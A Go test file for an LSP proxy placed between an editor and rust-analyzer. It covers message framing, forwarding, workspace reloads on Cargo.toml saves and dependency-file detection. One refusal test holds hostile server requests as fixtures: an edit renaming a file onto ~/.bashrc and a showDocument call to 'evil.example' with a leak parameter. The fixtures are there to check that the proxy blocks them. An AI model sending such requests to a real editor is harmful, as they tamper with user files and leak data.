package lsp

import (
	"bufio"
	"bytes"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

func TestReadMessageFraming(t *testing.T) {
	cases := []struct {
		name, in string
		want     []string
		err      bool
	}{
		{"one", "Content-Length: 2\r\n\r\n{}", []string{"{}"}, false},
		{"two with content-type", "Content-Length: 3\r\nContent-Type: application/vscode-jsonrpc; charset=utf-8\r\n\r\n[1]Content-Length: 1\r\n\r\n7", []string{"[1]", "7"}, false},
		{"multibyte body", "Content-Length: 4\r\n\r\n\"é\"", []string{"\"é\""}, false},
		{"case-insensitive header", "content-length: 2\r\n\r\n{}", []string{"{}"}, false},
		{"missing length", "X: 1\r\n\r\n{}", nil, true},
		{"short body", "Content-Length: 10\r\n\r\n{}", nil, true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			r := bufio.NewReader(strings.NewReader(c.in))
			var got []string
			var err error
			for {
				var m Message
				m, err = ReadMessage(r)
				if err != nil {
					break
				}
				got = append(got, string(m.Body))
			}
			if c.err != (err != io.EOF) {
				t.Fatalf("err = %v, want error: %v", err, c.err)
			}
			if !c.err && strings.Join(got, "|") != strings.Join(c.want, "|") {
				t.Fatalf("bodies %q, want %q", got, c.want)
			}
		})
	}
}

// pipePair connects the proxy to a test editor and a test server peer.
type peer struct {
	r *bufio.Reader
	w io.WriteCloser
}

func (p peer) send(t *testing.T, raw string) {
	t.Helper()
	if _, err := io.WriteString(p.w, raw); err != nil {
		t.Fatal(err)
	}
}

func (p peer) recv(t *testing.T) map[string]any {
	t.Helper()
	m, err := ReadMessage(p.r)
	if err != nil {
		t.Fatal(err)
	}
	var v map[string]any
	if err := json.Unmarshal(m.Body, &v); err != nil {
		t.Fatal(err)
	}
	return v
}

func frame(body string) string {
	return "Content-Length: " + itoa(len(body)) + "\r\n\r\n" + body
}

func itoa(n int) string { b, _ := json.Marshal(n); return string(b) }

func TestProxyForwardsBytesAndReloadsOnManifestSave(t *testing.T) {
	root := t.TempDir()
	if err := os.WriteFile(filepath.Join(root, "Cargo.toml"), []byte("[package]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	var fetches atomic.Int32
	editor, server, stop := runProxy(t, &Proxy{
		Refetch:  func() error { fetches.Add(1); return nil },
		Warnings: []string{"no rust-src"},
	})

	// A request is forwarded byte for byte, headers included.
	init := `{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"rootUri":"file://` + root + `","capabilities":{"window":{"workDoneProgress":true}}}}`
	raw := "Content-Length: " + itoa(len(init)) + "\r\nContent-Type: application/vscode-jsonrpc; charset=utf-8\r\n\r\n" + init
	editor.send(t, raw)
	got := make([]byte, len(raw))
	if _, err := io.ReadFull(server.r, got); err != nil || !bytes.Equal(got, []byte(raw)) {
		t.Fatalf("forwarded %q, want %q (%v)", got, raw, err)
	}
	// The server's answer reaches the editor, then airlock's warning.
	server.send(t, frame(`{"jsonrpc":"2.0","id":1,"result":{"capabilities":{}}}`))
	if v := editor.recv(t); v["id"] != float64(1) {
		t.Fatalf("editor got %v", v)
	}
	if v := editor.recv(t); v["method"] != "window/showMessage" {
		t.Fatalf("editor got %v, want the warning", v)
	}

	// Saving the manifest: progress to the editor, a fetch, a reload.
	editor.send(t, frame(`{"jsonrpc":"2.0","method":"textDocument/didSave","params":{"textDocument":{"uri":"file://`+root+`/Cargo.toml"}}}`))
	if v := server.recv(t); v["method"] != "textDocument/didSave" {
		t.Fatalf("server got %v, want the forwarded didSave", v)
	}
	create := editor.recv(t)
	if create["method"] != "window/workDoneProgress/create" {
		t.Fatalf("editor got %v, want a progress token request", create)
	}
	if v := editor.recv(t); v["method"] != "$/progress" {
		t.Fatalf("editor got %v", v)
	}
	// The editor's answer to our request must not reach the server.
	editor.send(t, frame(`{"jsonrpc":"2.0","id":"`+create["id"].(string)+`","result":null}`))
	if v := editor.recv(t); v["method"] != "$/progress" {
		t.Fatalf("editor got %v, want progress end", v)
	}
	reload := server.recv(t)
	if reload["method"] != "rust-analyzer/reloadWorkspace" {
		t.Fatalf("server got %v, want reloadWorkspace", reload)
	}
	if fetches.Load() != 1 {
		t.Fatalf("fetches = %d", fetches.Load())
	}
	// The server's answer to the reload stays with the proxy; the next
	// message the editor sees is a real one.
	server.send(t, frame(`{"jsonrpc":"2.0","id":"`+reload["id"].(string)+`","result":null}`))
	server.send(t, frame(`{"jsonrpc":"2.0","method":"textDocument/publishDiagnostics","params":{"uri":"file:///x","diagnostics":[]}}`))
	if v := editor.recv(t); v["method"] != "textDocument/publishDiagnostics" {
		t.Fatalf("editor got %v", v)
	}
	// A save of an ordinary source file fetches nothing.
	editor.send(t, frame(`{"jsonrpc":"2.0","method":"textDocument/didSave","params":{"textDocument":{"uri":"file://`+root+`/src/main.rs"}}}`))
	server.recv(t) // forwarded didSave
	time.Sleep(50 * time.Millisecond)
	if fetches.Load() != 1 {
		t.Fatalf("a source save triggered a fetch")
	}
	stop()
}

// runProxy runs p between an editor and a server made of pipes; stop closes
// both inputs and waits for the proxy to end.
func runProxy(t *testing.T, p *Proxy) (editor, server peer, stop func()) {
	t.Helper()
	edR, edToProxy := io.Pipe()     // editor -> proxy
	proxyToEd, edIn := io.Pipe()    // proxy -> editor
	srvIn, proxyToSrv := io.Pipe()  // proxy -> server
	srvToProxy, srvOut := io.Pipe() // server -> proxy
	p.EditorIn, p.EditorOut, p.ServerIn, p.ServerOut = edR, edIn, proxyToSrv, srvToProxy
	done := make(chan error, 1)
	go func() { done <- p.Run() }()
	stop = func() {
		edToProxy.Close()
		srvOut.Close()
		select {
		case <-done:
		case <-time.After(5 * time.Second):
			t.Fatal("proxy did not stop")
		}
	}
	return peer{bufio.NewReader(proxyToEd), edToProxy}, peer{bufio.NewReader(srvIn), srvOut}, stop
}

// TestProxyRefusesServerRequestsThatActOnTheHost: requests that make the
// editor write files or open URLs never reach it, and the user gets one
// warning per method; harmless ones pass.
func TestProxyRefusesServerRequestsThatActOnTheHost(t *testing.T) {
	editor, server, stop := runProxy(t, &Proxy{Refetch: func() error { return nil }})

	cases := []struct {
		body    string
		forward bool
	}{
		{`{"jsonrpc":"2.0","id":7,"method":"workspace/applyEdit","params":{"edit":{"documentChanges":[{"kind":"rename","oldUri":"file:///w/x","newUri":"file:///home/u/.bashrc"}]}}}`, false},
		{`{"jsonrpc":"2.0","id":8,"method":"window/showDocument","params":{"uri":"https://evil.example/?leak=1","external":true}}`, false},
		{`{"jsonrpc":"2.0","id":9,"method":"workspace/applyEdit","params":{}}`, false},
		{`[{"jsonrpc":"2.0","id":10,"method":"workspace/applyEdit","params":{}}]`, false},
		{`{"jsonrpc":"2.0","id":11,"method":"workspace/configuration","params":{"items":[]}}`, true},
		{`{"jsonrpc":"2.0","method":"window/logMessage","params":{"type":3,"message":"hi"}}`, true},
	}
	warnings := 0
	for _, c := range cases {
		server.send(t, frame(c.body))
		if c.forward {
			if v := editor.recv(t); v["method"] == "window/showMessage" {
				t.Fatalf("unexpected warning %v", v)
			}
			continue
		}
		if strings.HasPrefix(c.body, "[") || strings.Contains(c.body, `"id":9`) {
			continue // second applyEdit: no second warning
		}
		if v := editor.recv(t); v["method"] != "window/showMessage" {
			t.Fatalf("editor got %v, want the refusal warning for %s", v, c.body)
		}
		warnings++
	}
	if warnings != 2 {
		t.Fatalf("%d warnings, want one per refused method", warnings)
	}
	stop()
}

func TestIsDependencyFile(t *testing.T) {
	for path, want := range map[string]bool{
		"/w/Cargo.toml": true, "/w/a/Cargo.lock": true, "/w/.cargo/config.toml": true, "/w/.cargo/config": true,
		"/w/config.toml": false, "/w/src/main.rs": false, "/w/Cargo.toml.orig": false,
	} {
		if IsDependencyFile(path) != want {
			t.Errorf("IsDependencyFile(%s) != %v", path, want)
		}
	}
}
